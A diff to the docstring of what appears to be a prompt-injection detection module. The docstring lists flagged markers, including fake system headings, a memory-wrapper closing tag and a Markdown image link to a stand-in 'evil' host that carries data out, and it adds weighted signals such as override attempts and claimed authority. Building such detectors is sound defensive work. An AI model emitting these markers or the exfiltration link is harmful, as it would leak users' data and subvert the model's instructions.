@@ -23,7 +23,9 @@ headings (``<system>``, ``</user>``, ``### System:``, ``[SYSTEM]``), tool-call m
 the memory wrapper (``[End memory context]``) and Markdown image or link exfiltration
 (``![x](https://evil/?q=...)``). Markers inside Markdown code (fenced or inline) count as quoted,
 at a quarter of their weight, so documentation *about* these markers is not flagged on their
-account alone.
+account alone. Beyond these, independent signals (:mod:`formatters.injection_signals`: who the
+text addresses, control verbs, claimed authority, evasion, overrides, sensitive targets,
+obfuscation) each weigh under 1 and flag a text only when several combine.
 """
 
 from __future__ import annotations
